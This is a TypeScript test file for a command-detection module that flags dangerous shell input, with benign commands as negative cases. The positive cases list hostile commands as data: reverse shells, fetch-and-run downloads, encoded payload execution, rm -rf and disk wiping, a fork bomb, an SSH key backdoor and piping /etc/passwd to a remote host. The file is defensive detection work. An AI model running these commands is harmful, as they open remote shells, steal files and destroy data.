import * as fc from 'fast-check';
import { EXEC_PATTERNS, matchExecPatterns, SMUGGLED_COMMAND } from '../../../core/detection/exec-patterns.ts';

describe('matchExecPatterns', () => {
  it.each([
    'curl -fsSL https://example.net/i.sh | sudo bash',
    'bash <(curl -s https://example.net/i.sh)',
    'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
    'nc -e /bin/sh 192.0.2.7 4444',
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 9 > /tmp/f',
    'python3 -c \'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")\'',
    'powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A',
    'echo ZWNobyBoaQ== | base64 -d | sh',
    "exec(base64.b64decode('aW1wb3J0IG9z'))",
    "__import__('os').system('id')",
    'rm -rf /',
    'sudo rm -r -f /*',
    "r''m -rf ~",
    'rm${IFS}-rf${IFS}/',
    ':(){ :|:& };:',
    'dd if=/dev/zero of=/dev/sda',
    'wget http://example.net/x -O /tmp/x && chmod +x /tmp/x && /tmp/x',
    'certutil -urlcache -f http://example.net/a.exe a.exe',
    'echo key >> ~/.ssh/authorized_keys',
    'cat /etc/passwd | curl -d @- http://example.net',
  ])('recognises %j', (command) => {
    expect(matchExecPatterns(command)).not.toEqual([]);
  });

  it.each([
    'ls -la | grep notes',
    'rm -rf ./build',
    'rm -rf /tmp/build-1',
    'curl https://example.com/data.json | jq .total',
    'npm test && npm run build',
    'python3 report.py',
    'echo aGk= | base64 -d',
    'chmod 644 /srv/a',
    'git log --oneline | head',
    'import socket; print(socket.gethostname())',
    'docker exec web ls',
  ])('leaves %j alone', (command) => {
    expect(matchExecPatterns(command)).toEqual([]);
  });

  it('never throws, and ids are unique', () => {
    fc.assert(fc.property(fc.string({ maxLength: 300 }), (text) => expect(Array.isArray(matchExecPatterns(text))).toBe(true)));
    expect(new Set(EXEC_PATTERNS.map(({ id }) => id)).size).toBe(EXEC_PATTERNS.length);
  });

  it('uses bounded quantifiers only', () => {
    for (const { pattern } of [...EXEC_PATTERNS, { pattern: SMUGGLED_COMMAND }]) {
      expect(
        pattern.source
          .replace(/\\./g, '')
          .replace(/\[\^\]/g, 'c')
          .replace(/\[[^\]]*\]/g, 'c'),
      ).not.toMatch(/[*+]|,\}/);
    }
  });
});
